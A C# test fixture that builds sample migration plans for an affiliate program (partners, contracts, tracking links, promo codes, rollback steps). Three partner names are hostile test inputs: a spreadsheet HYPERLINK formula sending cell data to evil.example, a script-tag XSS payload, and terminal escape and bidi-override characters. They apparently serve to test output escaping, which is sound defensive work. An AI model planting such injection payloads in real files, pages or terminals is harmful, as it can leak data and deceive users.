using Bridge.Engine.Planning;
using Bridge.Model.Contracts;
using Bridge.Model.Findings;
using Bridge.Model.Identity;
using Bridge.Model.Links;
using Bridge.Model.Money;
using Bridge.Model.Partners;
using Bridge.Model.Privacy;
using Bridge.Model.Promotions;
using Bridge.Rails.Abstractions.Capabilities;
using Bridge.Rails.Abstractions.Writing;

namespace Bridge.Testing.Plans;

/// <summary>A made-up program with something of everything: each kind of step, outcome, loss and finding, and names that strangers typed.</summary>
public static class SamplePlans
{
    public const string FormulaName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    public const string ScriptName = "<script>alert(1)</script> & \"Sons\"";
    public const string TerminalName = "Red \u001b[31mAlert\u202Ecod\u0007";

    private static readonly Currency Euro = Currency.Parse("EUR");

    /// <summary>Everything that an apply can hold; with a finding that closes the gate or without.</summary>
    public static MemoryPlan Apply(bool blocked = true) => new(
        SampleHeaders.Apply,
        [.. Findings(blocked), .. Groups(), .. Templates(), .. Partners(), .. Memberships(), .. Contracts(), .. Links(), .. Codes()]);

    /// <summary>A rollback of most of it.</summary>
    public static MemoryPlan Rollback() => new(SampleHeaders.Rollback, RollbackSteps().Select(step => new StepLine(step)), new string('b', 64));

    /// <summary>A program with many partners: every third cannot move, for the bounds of a report.</summary>
    public static MemoryPlan Wide(int partners) => new(
        SampleHeaders.Apply,
        Enumerable.Range(0, partners).Select(number => $"{number:D6}").Select<string, PlanLine>(key => int.Parse(key, System.Globalization.CultureInfo.InvariantCulture) % 3 == 0
            ? Blocked(EntityKind.Partner, key, "NoContract", "No offer is assigned to it.") with { Label = $"Partner {key}", Partner = key }
            : new StepLine(Adopt(EntityKind.Partner, key, "9" + key, "reference: impact.value1") with { Label = $"Partner {key}", Partner = key })));

    private static IEnumerable<PlanLine> Findings(bool blocked)
    {
        if (blocked)
        {
            yield return Find("BRG-PROGRAM-001", Severity.Blocking, null, null, "program 31415", "setup", "The program on the target is not active.", "Activate it in the portal, then plan again.");
        }

        yield return Find("BRG-PARTNER-007", Severity.Excluding, EntityKind.Partner, "1007", "publishers.csv:19", null, "Two rows have the key of one partner and other content.", "Correct the export.");
        yield return Find("BRG-LINK-003", Severity.Warning, EntityKind.TrackingLink, "L-5", "links.csv:812", "http://old.example/a|b", "The destination is not on a host of the program.", "Check it, or add the host to the profile.");
        yield return Find("BRG-LINK-003", Severity.Warning, EntityKind.TrackingLink, "L-6", "links.csv:813", "http://old.example/c", "The destination is not on a host of the program.", "Check it, or add the host to the profile.");
        yield return Find("BRG-PROFILE-002", Severity.Note, null, null, "rakuten-to-impact.yaml:40:5", null, "No promotion method is mapped for 'Blog'.", "Add it under partners.promotionMethods.");
    }

    private static IEnumerable<PlanLine> Groups()
    {
        yield return Step(new CreateGroup
        {
            Id = Id(EntityKind.PartnerGroup, "Coupon sites", "create"),
            Entity = EntityKind.PartnerGroup,
            Source = "G1",
            Counts = Outcome.Created,
            Channel = StepChannel.Api,
            Class = OperationClass.Unique,
            Reversibility = Reversibility.Reversible,
            Inverse = "delete it",
            Draft = new PartnerGroupDraft("Coupon sites"),
        }, "Coupon sites", null);
        yield return Step(Adopt(EntityKind.PartnerGroup, "G2", "501", "a group named 'VIP' exists"), "VIP", null);
        yield return new OutcomeLine { Entity = EntityKind.PartnerGroup, Source = "G3", Outcome = Outcome.Skipped, Reason = "NoPartnerInScope", Message = "No partner in scope belongs to group 'Test'.", Label = "Test" };
    }

    private static IEnumerable<PlanLine> Templates()
    {
        yield return Step(new BuildTemplate
        {
            Id = Id(EntityKind.Template, "77", "build"),
            Entity = EntityKind.Template,
            Channel = StepChannel.WorkItem,
            Class = OperationClass.Human,
            Reversibility = Reversibility.Irreversible,
            Why = "no template is declared for offer 77",
            Draft = new TemplateDraft { Name = "Baseline 7.5 %", Terms = Terms("77", 0.075m) },
        }, null, null);
    }

    private static IEnumerable<PlanLine> Partners()
    {
        yield return Step(Adopt(EntityKind.Partner, "1001", "88001", "domain: fjordreviews.example"), "Fjord Reviews", "1001");
        yield return Step(new AmendPartner
        {
            Id = Id(EntityKind.Partner, "1001", "amend"),
            Entity = EntityKind.Partner,
            Channel = StepChannel.Api,
            Class = OperationClass.Declarative,
            Reversibility = Reversibility.Reversible,
            Inverse = "put the values back that were there before",
            DependsOn = [Id(EntityKind.Partner, "1001", "adopt")],
            Why = "the partner's ids on the source are kept on the target",
            Amendment = new PartnerAmendment
            {
                Partner = TargetRef.Known("88001"),
                Before = [new("impact.value3", "old note"), new("impact.value4", "kept")],
                After = [new("impact.value1", "1001"), new("impact.value2", "kX9=="), new("impact.value4", "kept")],
            },
        }, "Fjord Reviews", "1001");
        yield return Step(Create("1002", "Alpen Deals", PartnerEntry.ProspectFile) with
        {
            Losses = [Lose("PromotionMethodUnknown", Fidelity.Degraded, "promotionMethods[1]", "The target holds one promotion method; 'Newsletter' is left out.")],
        }, "Alpen Deals", "1002");
        yield return Step(Create("1003", FormulaName, PartnerEntry.CreateDirectly), FormulaName, "1003");
        yield return new OutcomeLine { Entity = EntityKind.Partner, Source = "1004", Outcome = Outcome.Skipped, Reason = "StatusOutOfScope", Message = "Partners in state 'removed' do not move.", Label = "Gone Ltd", Partner = "1004" };
        yield return new OutcomeLine { Entity = EntityKind.Partner, Source = "1005", Outcome = Outcome.Manual, Reason = "AmbiguousMatch", Message = "Two partners have the domain. A reviewer decides in the overrides file: 88005, 88006, or 'new'.", Label = "Twin Media", Partner = "1005" };
        yield return new OutcomeLine { Entity = EntityKind.Partner, Source = "1006", Outcome = Outcome.Unchanged, TargetId = "88010", Label = "Steady Blog", Partner = "1006" };
        yield return Blocked(EntityKind.Partner, "1007", "SourceConflict", "The source says two different things about this partner; correct the export.") with { Label = "Doppel GmbH", Partner = "1007" };
        yield return Step(Create("1008", ScriptName, PartnerEntry.InviteInPortal), ScriptName, "1008");
        yield return Step(Create("1009", TerminalName, PartnerEntry.ProspectFile), TerminalName, "1009");
    }

    private static IEnumerable<PlanLine> Memberships()
    {
        yield return Step(new JoinGroup
        {
            Id = Id(EntityKind.PartnerGroup, "VIP", "join-1"),
            Entity = EntityKind.PartnerGroup,
            Channel = StepChannel.Api,
            Class = OperationClass.Declarative,
            Reversibility = Reversibility.Reversible,
            Inverse = "take the partners out of the group",
            Membership = new GroupMembership { Group = TargetRef.Known("501"), GroupName = "VIP", Partners = [TargetRef.Known("88001")] },
            Why = "partners taken over keep their group",
        }, null, null);
    }

    private static IEnumerable<PlanLine> Contracts()
    {
        yield return Step(Establish("1001", "77", StepChannel.WorkItem, TargetRef.Known("88001")) with
        {
            Before = Terms("c-1", 0.05m) with { Name = "Old terms", Windows = new ReferralWindows { Click = TimeSpan.FromDays(7) } },
        }, "Baseline", "1001");
        yield return Step(Establish("1002", "77", StepChannel.Implied, TargetRef.Of(Id(EntityKind.Partner, "1002", "create"))) with
        {
            Losses = [Lose("TierCountExceeded", Fidelity.Dropped, "terms[0].tiers[1]", "The target's template holds one rate; the tier from 10,000 is not held.")],
        }, "Baseline", "1002");
        yield return Step(Establish("1003", "77", StepChannel.Implied, TargetRef.Of(Id(EntityKind.Partner, "1003", "create"))), "Baseline", "1003");
        yield return new OutcomeLine { Entity = EntityKind.Contract, Source = "1004:77", Outcome = Outcome.Skipped, Reason = "PartnerOutOfScope", Message = "Its partner is out of scope.", Label = "Baseline", Partner = "1004" };
        yield return Step(new DecideApplication
        {
            Id = Id(EntityKind.Contract, "1006:77", "accept"),
            Entity = EntityKind.Contract,
            Source = "1006:77",
            Counts = Outcome.Created,
            Channel = StepChannel.Api,
            Class = OperationClass.Declarative,
            Reversibility = Reversibility.Irreversible,
            SideEffect = "the target mails the acceptance",
            Why = "the partner has applied and is in scope",
            Decision = new ApplicationDecision { Application = new ContractId("c-6"), Partner = TargetRef.Known("88010"), Accept = true },
        }, "Baseline", "1006");
        yield return Blocked(EntityKind.Contract, "1007:77", "PartnerBlocked", "Its partner cannot move.") with { Label = "Baseline", Partner = "1007" };
    }

    private static IEnumerable<PlanLine> Links()
    {
        yield return Step(Link("L-1", "1001", TargetRef.Known("88001"), "https://shop.example/sale?a=1&b=2"), null, "1001");
        yield return Step(Link("L-2", "1001", TargetRef.Known("88001"), null) with { Counts = Outcome.Updated }, null, "1001");
        yield return Step(Adopt(EntityKind.TrackingLink, "L-3", "https://shop.sjv.io/abc", "an earlier run made this link"), "https://click.example/3", "1001");
        yield return new OutcomeLine { Entity = EntityKind.TrackingLink, Source = "L-4", Outcome = Outcome.Unchanged, TargetId = "https://shop.sjv.io/def", Label = "https://click.example/4", Partner = "1006" };
        yield return Blocked(EntityKind.TrackingLink, "L-5", "HostNotPermitted", "Its destination is not on a host of the program.") with { Label = "https://click.example/5", Partner = "1001" };
        yield return Step(Link("L-6", "1002", TargetRef.Of(Id(EntityKind.Partner, "1002", "create")), "https://shop.example/deals") with
        {
            DependsOn = [Id(EntityKind.Contract, "1002:77", "establish")],
        }, null, "1002");
    }

    private static IEnumerable<PlanLine> Codes()
    {
        yield return Step(new CreateDeal
        {
            Id = Id(EntityKind.Deal, "Spring", "create"),
            Entity = EntityKind.Deal,
            Channel = StepChannel.Api,
            Class = OperationClass.Probeable,
            Reversibility = Reversibility.Reversible,
            Inverse = "delete it",
            Draft = new DealDraft { Name = "Spring", Discount = new Discount { Kind = DiscountKind.Percent, Rate = new Rate(0.1m) }, StartsAt = new DateTimeOffset(2027, 3, 1, 0, 0, 0, TimeSpan.Zero) },
        }, null, null);
        yield return Step(new CreatePromoCode
        {
            Id = Id(EntityKind.PromoCode, "+SPRING10|1001", "create"),
            Entity = EntityKind.PromoCode,
            Source = "+SPRING10|1001",
            Counts = Outcome.Created,
            Channel = StepChannel.Api,
            Class = OperationClass.Probeable,
            Reversibility = Reversibility.Compensable,
            Inverse = "expire it; the text stays taken",
            DependsOn = [Id(EntityKind.Deal, "Spring", "create")],
            Draft = new PromoCodeDraft { Code = "+SPRING10", Owner = TargetRef.Known("88001"), CreditPolicy = "ALWAYS", Deal = TargetRef.Of(Id(EntityKind.Deal, "Spring", "create")) },
        }, "+SPRING10", "1001");
        yield return Step(Adopt(EntityKind.PromoCode, "FJORD5|1001", "7005", "the code exists and credits this partner"), "FJORD5", "1001");
        yield return Blocked(EntityKind.PromoCode, "WELCOME|1002", "CodeOwnedByOther", "On the target code 'WELCOME' credits another partner; settle who owns it.") with { Label = "WELCOME", Partner = "1002" };
    }

    private static IEnumerable<PlanStep> RollbackSteps()
    {
        yield return new ExpirePromoCode
        {
            Id = "rollback/codes/1/expire",
            Entity = EntityKind.PromoCode,
            Channel = StepChannel.Api,
            Class = OperationClass.Declarative,
            Reversibility = Reversibility.Compensable,
            TargetId = new PromoCodeId("7001"),
            Made = new PromoCodeDraft { Code = "+SPRING10", Owner = TargetRef.Known("88001"), CreditPolicy = "ALWAYS" },
            Undoes = Id(EntityKind.PromoCode, "+SPRING10|1001", "create"),
        };
        yield return Keep("rollback/links/1/keep", EntityKind.TrackingLink, "https://shop.sjv.io/xyz", "the link goes on working; leave it unused");
        yield return Keep("rollback/contracts/1/keep", EntityKind.Contract, "c-9", "the contract stays switched; switch it back in the portal if it must");
        yield return new LeaveGroup
        {
            Id = "rollback/groups/VIP/leave-1",
            Entity = EntityKind.PartnerGroup,
            Channel = StepChannel.Api,
            Class = OperationClass.Declarative,
            Reversibility = Reversibility.Reversible,
            Membership = new GroupMembership { Group = TargetRef.Known("501"), GroupName = "VIP", Partners = [TargetRef.Known("88001")] },
        };
        yield return new AmendPartner
        {
            Id = "rollback/partners/1001/restore",
            Entity = EntityKind.Partner,
            Label = "Fjord Reviews",
            Channel = StepChannel.Api,
            Class = OperationClass.Declarative,
            Reversibility = Reversibility.Reversible,
            Amendment = new PartnerAmendment { Partner = TargetRef.Known("88001"), Before = [new("impact.value1", "1001")], After = [] },
        };
        yield return new ForgetObject
        {
            Id = "rollback/partners/1001/forget",
            Entity = EntityKind.Partner,
            Label = "Fjord Reviews",
            Channel = StepChannel.None,
            Class = OperationClass.Declarative,
            Reversibility = Reversibility.Reversible,
            TargetId = "88001",
        };
        yield return new DeleteDeal
        {
            Id = "rollback/deals/Spring/delete",
            Entity = EntityKind.Deal,
            Channel = StepChannel.Api,
            Class = OperationClass.Declarative,
            Reversibility = Reversibility.Reversible,
            TargetId = new DealId("301"),
            Name = "Spring",
        };
        yield return new DeleteGroup
        {
            Id = "rollback/groups/Coupon/delete",
            Entity = EntityKind.PartnerGroup,
            Channel = StepChannel.Api,
            Class = OperationClass.Declarative,
            Reversibility = Reversibility.Reversible,
            TargetId = new PartnerGroupId("502"),
            Name = "Coupon sites",
        };
    }

    private static string Id(EntityKind entity, string key, string verb) => StepIds.Of(entity, key, verb);

    private static StepLine Step(PlanStep step, string? label, string? partner) => new(step with { Label = label, Partner = partner });

    private static AdoptObject Adopt(EntityKind entity, string source, string target, string why) => new()
    {
        Id = Id(entity, source, "adopt"),
        Entity = entity,
        Source = source,
        Counts = Outcome.Adopted,
        Channel = StepChannel.None,
        Class = OperationClass.Declarative,
        Reversibility = Reversibility.Reversible,
        Inverse = "forget that the two belong together",
        TargetId = target,
        Why = why,
    };

    private static CreatePartner Create(string key, string name, PartnerEntry entry)
    {
        var channel = entry switch { PartnerEntry.CreateDirectly => StepChannel.Api, PartnerEntry.InviteInPortal => StepChannel.WorkItem, _ => StepChannel.FilePack };
        return new CreatePartner
        {
            Id = Id(EntityKind.Partner, key, "create"),
            Entity = EntityKind.Partner,
            Source = key,
            Counts = Outcome.Created,
            Channel = channel,
            Class = channel == StepChannel.Api ? OperationClass.Probeable : OperationClass.Human,
            Reversibility = Reversibility.Irreversible,
            SideEffect = "the target mails an invitation",
            DependsOn = [Id(EntityKind.Template, "77", "build")],
            Why = "no partner on the target matches",
            Entry = entry,
            Draft = new PartnerDraft
            {
                Name = name,
                Website = $"https://p{key}.example/",
                Contact = new Contact
                {
                    FirstName = new PersonalValue(PersonalKind.FirstName, "0123456789abcdef0123456789abcdef"),
                    Email = new PersonalValue(PersonalKind.Email, "fedcba9876543210fedcba9876543210"),
                    IsPrimary = true,
                },
                Address = new PostalAddress { City = new PersonalValue(PersonalKind.City, "00112233445566778899aabbccddeeff"), Country = "AT" },
                PromotionMethod = "Content",
                Currency = Euro,
                Template = TargetRef.Of(Id(EntityKind.Template, "77", "build")),
                Groups = [TargetRef.Of(Id(EntityKind.PartnerGroup, "Coupon sites", "create"))],
                GroupNames = ["Coupon sites"],
                References = [new("impact.value1", key), new("impact.value2", $"enc-{key}")],
            },
        };
    }

    private static EstablishContract Establish(string partner, string offer, StepChannel channel, TargetRef target) => new()
    {
        Id = Id(EntityKind.Contract, $"{partner}:{offer}", "establish"),
        Entity = EntityKind.Contract,
        Source = $"{partner}:{offer}",
        Counts = channel == StepChannel.Implied ? Outcome.Created : Outcome.Updated,
        Channel = channel,
        Class = OperationClass.Human,
        Reversibility = Reversibility.Irreversible,
        SideEffect = channel == StepChannel.WorkItem ? "the target mails the new terms" : null,
        Why = "offer 77 leads by precedence",
        Draft = new ContractDraft { Partner = target, Template = TargetRef.Of(Id(EntityKind.Template, offer, "build")), TemplateName = "Baseline 7.5 %", Terms = Terms($"{partner}:{offer}", 0.075m) },
    };

    private static CreateLink Link(string key, string partner, TargetRef owner, string? destination) => new()
    {
        Id = Id(EntityKind.TrackingLink, key, "create"),
        Entity = EntityKind.TrackingLink,
        Source = key,
        Counts = Outcome.Created,
        Channel = StepChannel.Api,
        Class = OperationClass.Neither,
        Reversibility = Reversibility.Irreversible,
        Replaces = $"https://click.example/fs-bin/click?id={partner}&offer=77.{key}",
        Draft = new TrackingLinkDraft { Partner = owner, Kind = destination is null ? LinkKind.Regular : LinkKind.Deep, Destination = destination, SubIds = [new SubId("subId1", "@home")] },
    };

    private static KeepObject Keep(string id, EntityKind entity, string target, string remains) => new()
    {
        Id = id,
        Entity = entity,
        Channel = StepChannel.None,
        Class = OperationClass.Declarative,
        Reversibility = Reversibility.Irreversible,
        TargetId = target,
        Remains = remains,
    };

    private static OutcomeLine Blocked(EntityKind entity, string source, string reason, string message) =>
        new() { Entity = entity, Source = source, Outcome = Outcome.Blocked, Reason = reason, Message = message };

    private static Loss Lose(string code, Fidelity fidelity, string path, string message) => new() { Code = code, Fidelity = fidelity, Path = path, Message = message };

    private static FindingLine Find(string code, Severity severity, EntityKind? entity, string? subject, string? place, string? value, string message, string remedy) =>
        new(new Finding { Code = code, Severity = severity, Entity = entity, Subject = subject, Place = place, Value = value, Message = message, Remedy = remedy });

    private static Contract Terms(string id, decimal rate) => new()
    {
        Id = new ContractId(id),
        Partner = new PartnerId(""),
        Name = "Baseline",
        Status = ContractStatus.Active,
        Currency = Euro,
        Terms =
        [
            new PercentOfSale { Rate = new Rate(rate), Scope = new TermScope { Conditions = [new ScopeCondition { Field = ScopeField.CustomerStatus, Values = ["new"] }] } },
            new PercentOfSale { Rate = new Rate(0.02m) },
        ],
        Windows = new ReferralWindows { Click = TimeSpan.FromDays(30) },
        Locking = new LockingRule { Basis = LockBasis.Tracked, Days = 45 },
    };
}
